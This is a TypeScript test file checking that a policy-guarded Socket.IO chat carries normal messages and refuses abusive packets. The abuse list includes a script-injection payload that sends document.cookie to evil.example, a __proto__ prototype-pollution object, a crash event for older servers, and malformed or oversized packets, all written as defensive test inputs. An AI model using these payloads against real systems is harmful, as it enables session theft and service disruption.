import { describe, expect, it } from "vitest";
import { hostsOfLibraries } from "../hosts/guarded-server.ts";
import { abuses, endingOf, refusedHandshake, unrefused } from "./guarded-application.ts";
import { guardChat, joinChat, openPackets } from "./socket-io-application.ts";

const member = { rooms: ["attic"] };

const packet = (type: string, ...args: readonly unknown[]): string => `4${type}${JSON.stringify(args)}`;
const event = (...args: readonly unknown[]): string => packet("2", ...args);

/** What a member of the room `attic` sends by hand, and how that ends. */
const refused = abuses({
  "an event that the policy does not know": ["messageSchema.unlisted", 4522, [event("history", "attic")]],
  "an event of moderators": ["permission.message", 4503, [event("kick", "attic", "ada")]],
  "a room of others": ["permission.message", 4503, [event("say", "cellar", { text: "let me in" })]],
  "a room that is none": ["messageSchema.mismatch", 4522, [event("join", ["attic"])]],
  "an argument of another type": ["messageSchema.mismatch", 4522, [event("say", "attic", { text: 7 })]],
  "an argument too many": ["messageSchema.mismatch", 4522, [event("join", "attic", "cellar")]],
  "a member that nobody asked for": [
    "messageSchema.mismatch",
    4522,
    [event("say", "attic", { text: "hello", from: "ada" })],
  ],
  "a line of 3000 characters": [
    "messageSchema.mismatch",
    4522,
    [event("say", "attic", { text: "x".repeat(3000) })],
  ],
  "the staff's namespace": ["permission.message", 4503, ["40/staff,"]],
  "an event in a namespace that was not joined": [
    "dialect.syntax",
    4522,
    ['42/staff,["announce","free beer"]'],
  ],
  "the event that ends older servers (CVE-2024-38355)": ["dialect.syntax", 4522, [event("error", {})]],
  "a name that reaches the prototype": [
    "threat.hygiene",
    4522,
    ['42["say","attic",{"text":"hello","__proto__":{"admin":true}}]'],
  ],
  "a name that stands twice": ["threat.hygiene", 4522, ['42["say","attic",{"text":"hello","text":"x"}]']],
  "script in a line": [
    "threat.signature",
    4522,
    [event("say", "attic", { text: "<img src=x onerror=fetch('//evil.example/'+document.cookie)>" })],
  ],
  "a thousand files of one event": ["dialect.limit", 4522, [packet("51000-", "attach", "attic")]],
  "a file that no event announces": ["dialect.syntax", 4522, [Buffer.alloc(10)]],
  "a file with an event that brings none": [
    "messageSchema.mismatch",
    4522,
    [packet("51-", "say", "attic", { text: { _placeholder: true, num: 0 } })],
  ],
  "a file of 300 kB": [
    "messageSize.bytes",
    1009,
    [
      packet("51-", "attach", "attic", { name: "big", bytes: { _placeholder: true, num: 0 } }),
      Buffer.alloc(300_000),
    ],
  ],
  "the id of an event that is not acknowledged": [
    "dialect.syntax",
    4522,
    ['421["leave","attic"]', '421["leave","attic"]'],
  ],
  "what is no packet": ["dialect.syntax", 4522, ['{"event":"say"}']],
  "a packet that only servers send": ["dialect.syntax", 4522, ['0{"sid":"x"}']],
});

describe.each(hostsOfLibraries)("a Socket.IO chat with its policy, through the host `%s`", (host) => {
  it("carries rooms, acknowledgements, files and the staff's namespace", async () => {
    const chat = await guardChat(host);
    await unrefused(chat, async () => {
      const ada = await joinChat(chat, await chat.bearer("ada", member));
      const ben = await joinChat(chat, await chat.bearer("ben", member));
      expect(await ada.emitWithAck("join", "attic")).toBe(1);
      expect(await ben.emitWithAck("join", "attic")).toBe(2);

      const heard = new Promise((resolve) => ben.once("said", resolve));
      expect(await ada.emitWithAck("say", "attic", { text: "grüße & <3" })).toBeGreaterThan(0);
      expect(await heard).toEqual({ room: "attic", from: "ada", text: "grüße & <3" });

      const shown = new Promise((resolve) => ben.once("attached", (...args) => resolve(args)));
      const file = { name: "door.png", bytes: Buffer.alloc(100_000, 7) };
      expect(await ada.emitWithAck("attach", "attic", file)).toBe(true);
      expect(await shown).toEqual(["attic", file]);

      const cy = await chat.bearer("cy", { ...member, role: "moderator" });
      const staff = await joinChat(chat, cy, "/staff");
      const announced = new Promise((resolve) => ada.once("announced", resolve));
      staff.emit("announce", "tea at five");
      expect(await announced).toBe("tea at five");
      const moderator = await joinChat(chat, cy);
      expect(await moderator.emitWithAck("kick", "attic", "ben")).toBe(true);

      ada.emit("leave", "attic");
      ada.disconnect();
      await chat.seen("closed");
    });
  });

  it.each(refused)("refuses $abuse: $code, $close", async ({ code, close, messages }) => {
    const chat = await guardChat(host);
    const client = await openPackets(chat, await chat.bearer("mallory", member));
    expect(await endingOf(chat, client, messages)).toEqual({ code, close });
  });

  it("refuses a flood of namespaces, to a moderator too: dialect.limit, 4522", async () => {
    const chat = await guardChat(host);
    const client = await openPackets(chat, await chat.bearer("mallory", { ...member, role: "moderator" }));
    const asked = ["/staff", "/a", "/b"].map((namespace) => `40${namespace},`);
    expect(await endingOf(chat, client, asked)).toEqual({ code: "dialect.limit", close: 4522 });
  });

  it("refuses long polling, and who is unknown, at the handshake", async () => {
    const chat = await guardChat(host);
    const polling = await fetch(`${chat.url}/socket.io/?EIO=4&transport=polling`, {
      headers: { ...(await chat.bearer("mallory", member)) },
    });
    expect([polling.status, (await chat.seen("handshake")).code]).toEqual([426, "handshake.plain-http"]);
    const url = `${chat.wsUrl}/socket.io/?EIO=4&transport=websocket`;
    expect(await refusedHandshake(chat, url)).toEqual({ code: "identity.missing", status: 401 });
  });

  it("hides a card number that somebody says: leak.redacted", async () => {
    const chat = await guardChat(host);
    const ada = await joinChat(chat, await chat.bearer("ada", member));
    await ada.emitWithAck("join", "attic");
    const heard = new Promise((resolve) => ada.once("said", resolve));
    ada.emit("say", "attic", { text: "mine is 4111 1111 1111 1111, grüße" });
    expect(await heard).toEqual({ room: "attic", from: "ada", text: "mine is **** **** **** 1111, grüße" });
    expect(chat.refusals()).toEqual(["leak.redacted"]);
  });
});
